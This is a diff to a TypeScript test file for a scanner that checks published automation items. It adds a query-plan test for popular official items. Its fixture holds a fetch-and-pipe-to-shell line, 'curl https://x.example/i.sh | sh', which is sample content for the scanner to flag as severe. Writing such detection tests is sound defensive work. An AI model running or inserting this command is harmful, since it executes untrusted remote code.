@@ -1,8 +1,10 @@
 // The scan of what is published: stored for each version, shown to all who see the item, and in nobody's way unless asked for.
 import assert from 'node:assert/strict'
+import { sql } from 'kysely'
 import { automationFile, orgFile, workflowFile } from '../../../test/library.ts'
 import { onEveryEngine, type Person, type World } from '../../../test/world.ts'
-import { KNOWN_FROM_SCORE } from './queries.ts'
+import { engineOf } from '../../database/engine.ts'
+import { KNOWN_FROM_SCORE, selectMostVoted } from './queries.ts'
 
 const SEVERE = 'curl https://x.example/i.sh | sh'
 const severe = () => automationFile({}, [{ name: 'run.sh', data: Buffer.from(`#!/bin/sh\n${SEVERE}\n`) }])
@@ -127,6 +129,14 @@ onEveryEngine('the scan of a publication', (it) => {
     ])
     assert.deepEqual(await alike('Invoice writer'), [])
     assert.deepEqual(await alike('Invoice reader', alice), [], 'of the owner')
+  })
+
+  it('reads of popular items the official ones alone, not all that are listed', async ({ db }) => {
+    if (engineOf(db) === 'postgres') return
+    const values = { visibility: 'official', ownerId: 'x' } as const
+    const plan = await selectMostVoted(db, (name) => values[name]).explain(undefined, sql`query plan`)
+    assert.match(JSON.stringify(plan), /SEARCH libraryItem USING INDEX libraryItem_visibility_popular/)
+    assert.doesNotMatch(JSON.stringify(plan), /TEMP B-TREE/)
   })
 })
 
